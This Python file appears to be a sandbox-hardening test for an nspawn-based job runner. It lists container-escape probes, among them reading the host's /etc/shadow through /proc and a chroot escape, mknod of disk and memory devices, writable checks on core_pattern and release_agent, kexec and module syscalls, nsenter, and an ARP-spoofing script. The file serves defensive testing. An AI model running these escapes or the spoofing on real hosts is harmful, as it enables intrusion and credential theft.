"""What root of a job may try against its host, as small scripts: status 0 says that it got through.

They look for evidence and do no harm where they do get through: files are opened for writing and not written to, a
module that is offered is none, devices are read. The host is expected to have an account ``canary``, a process, a disk
and an abstract socket that CANARY names, and a listener on PORT; variables tell of the host and of another machine.
"""

import shlex

PORT = 8765
CANARY = "nspawn-canary"


def python(code: str) -> str:
    """Return a script that runs Python."""
    return f"python3 -c {shlex.quote(code)}"


def writable(path: str) -> str:
    """Return a script that opens files for writing, and does not write: one that opens is enough."""
    return f"for file in {path}; do [ -e $file ] && (exec 3>> $file) && exit; done; false"


def connect(address: str, port: int = PORT) -> str:
    return f"timeout 2 bash -c 'exec 3<>/dev/tcp/{address}/{port}'"


_SYSCALL = "import ctypes, os; call = ctypes.CDLL(None, use_errno=True).syscall; "
_HANDLE = f"""{_SYSCALL}
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
handle, mount = Handle(128), ctypes.c_int()
if call(303, -100, b"/run", ctypes.byref(handle), ctypes.byref(mount), 0): raise SystemExit(2)
raise SystemExit(call(304, os.open("/run", os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY) < 0)
"""
_CHROOT = """
import os
os.makedirs("/tmp/inner", exist_ok=True)
top = os.open("/", os.O_RDONLY)
os.chroot("/tmp/inner"); os.fchdir(top)
for level in range(30): os.chdir("..")
os.chroot(".")
raise SystemExit("canary:" not in open("/etc/shadow").read())
"""
# Another status than EPERM and ENOSYS would mean that the call was let through; no file is a module.
_MODULE = f"{_SYSCALL} call(313, os.open('/etc/hostname', os.O_RDONLY), b'', 0); exit(ctypes.get_errno() in (1, 38))"
_KEXEC = f"{_SYSCALL} call(246, 0, 99, None, 1 << 40); exit(ctypes.get_errno() in (1, 38))"
_CLOCK = f"{_SYSCALL} call(227, 0, None); exit(ctypes.get_errno() in (1, 38))"
_IO_URING = f"{_SYSCALL} call(425, 0, None); exit(ctypes.get_errno() in (1, 38))"
_USERFAULTFD = f"{_SYSCALL} exit(call(323, 1) < 0)"
_ABSTRACT = f"import socket; socket.socket(socket.AF_UNIX).connect(chr(0) + {CANARY!r})"
# BTRFS_IOC_TREE_SEARCH of the tree of roots: what other subvolumes there are.
_BTRFS = """
import fcntl, os, struct
key = struct.pack("=QQQQQQQIIIIQQQQ", 1, 0, 2**64 - 1, 0, 2**64 - 1, 0, 2**64 - 1, 0, 255, 4096, 0, 0, 0, 0, 0)
folder = max(filter(os.path.exists, ("/var/lib", "/var/lib/nspawn-runner")))
fcntl.ioctl(os.open(folder, os.O_RDONLY), 0xD0009411, bytearray(key.ljust(4096, b"\\0")))
"""

# The numbers of system calls are those of x86-64; elsewhere the calls fail, which says nothing.
ATTACKS = {
    # files of the host
    "shadow through processes": "cat /proc/[0-9]*/root/etc/shadow | grep canary:",
    "shadow through folders": "cd /proc/1/cwd && cat ../../../../../../etc/shadow | grep canary:",
    "shadow out of a chroot": python(_CHROOT),
    "files by handle": python(_HANDLE),
    "images, layers, records": "cd /proc; "
    "ls -d [0-9]*/root/{var/lib/nspawn-runner/bookworm,run/nspawn-runner/*.json} | grep .",
    "other subvolumes": python(_BTRFS),
    # processes of the host
    "see a process": "cat /proc/[0-9]*/cmdline | grep --text '[n]spawn-canary-process'",
    "signal a process": "kill -s CONT $(pgrep -f '[n]spawn-canary-process')",
    "look into a process": "cat $(printf '/proc/%s/environ ' $(pgrep -f '[n]spawn-canary-process')) | grep --text .",
    # network
    "the host's loopback": connect("127.0.0.1"),
    "the host on the bridge": connect("$HOST_ADDRESS"),
    "the host on its own network": connect("$HOST_LAN"),
    "the host by IPv6": connect("$HOST_IPV6%host0") + " || " + connect("::1"),
    "the host's abstract sockets": python(_ABSTRACT),
    "another machine": connect("$OTHER_ADDRESS"),
    "another machine by ping": "ping -c 1 -W 1 $OTHER_ADDRESS",
    "interfaces of the host": "ip link show nspr0",
    "firewall of the host": "mount -o remount,rw,bind /proc/sys; nft list table inet nspawn_runner && exit; "
    + writable("/proc/sys/net/ipv4/conf/nspr0/forwarding"),
    "the hypervisor and the host by vsock": python("import socket; socket.socket(40, socket.SOCK_STREAM)"),
    # devices
    "disk": f"mknod /var/tmp/disk b $HOST_DISK; head -c 100 /var/tmp/disk | grep {CANARY}",
    "all devices": "mkdir -p /tmp/devices && mount -t devtmpfs devices /tmp/devices",
    "kernel log, writing": "mknod /var/tmp/kmsg c 1 11; " + writable("/var/tmp/kmsg /dev/kmsg"),
    "kernel log, reading": "dmesg | grep .",
    "memory": "mknod /var/tmp/mem c 1 1; " + writable("/var/tmp/mem") + " || head -c 1 /proc/kcore",
    "a node of any device": "mknod /var/tmp/null c 1 3",
    # the kernel
    "module": python(_MODULE),
    "another kernel": python(_KEXEC),
    "clock": python(_CLOCK),
    "io_uring": python(_IO_URING),
    "userfaultfd": python(_USERFAULTFD),
    "sysctl": "mount -o remount,rw,bind /proc/sys; "
    + writable("/proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/vm/overcommit_memory"),
    "sysctl, mounted again": "mkdir -p /tmp/proc; mount -t proc proc /tmp/proc; "
    + writable("/tmp/proc/sys/kernel/core_pattern"),
    "sysrq": "mount -o remount,rw,bind /proc/sysrq-trigger; " + writable("/proc/sysrq-trigger /tmp/proc/sysrq-trigger"),
    "uevent helper": "mkdir -p /tmp/sys; mount -t sysfs sys /tmp/sys; mount -o remount,rw /tmp/sys; "
    + writable("/sys/kernel/uevent_helper /tmp/sys/kernel/uevent_helper /tmp/sys/module/*/parameters/*"),
    # control groups
    "release agent": "mkdir -p /tmp/group; mount -t cgroup -o memory group /tmp/group; "
    + writable("/tmp/group/release_agent /sys/fs/cgroup/*/release_agent"),
    "own limits": "mount -o remount,rw,bind /sys/fs/cgroup/memory; "
    + writable("/sys/fs/cgroup/memory/memory.limit_in_bytes /sys/fs/cgroup/memory.max /sys/fs/cgroup/pids/pids.max"),
    "allowed devices": "mount -o remount,rw,bind /sys/fs/cgroup/devices; "
    + writable("/sys/fs/cgroup/devices/devices.allow"),
    "groups above": "find /sys/fs/cgroup /tmp/group -name 'machine.slice' -o -name 'nspawn-runner-run*' | grep .",
    "namespaces of the host": "nsenter --target=1 --mount --net --pid test -e /var/lib/nspawn-runner/bookworm",
}  # fmt: skip


# Says to the host that the address of another machine is here, then that the other's hardware address is.
TAKE_PLACE = r"""
import socket, struct, sys, time
address, hardware, host_address = sys.argv[1:]
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("host0", 0))
mac = lambda text: bytes.fromhex(text.replace(":", ""))
own = mac(open("/sys/class/net/host0/address").read().strip())
for sender in [own, mac(hardware)] * 20:
    says = sender + socket.inet_aton(address) + bytes(6) + socket.inet_aton(host_address)
    raw.send(b"\xff" * 6 + sender + struct.pack("!HHHBBH", 0x806, 1, 0x800, 6, 4, 1) + says)
    time.sleep(0.02)
"""


def script() -> str:
    """Return a script that tries all attacks and names, a line each, those that got through."""
    lines = []
    for name, attack in ATTACKS.items():
        quiet = f"timeout --kill-after=1 20 bash -c {shlex.quote(attack)} > /dev/null 2>&1 < /dev/null"
        lines.append(f"({quiet} && echo {shlex.quote(name)}) &")
    return "\n".join([*lines, "wait\n"])
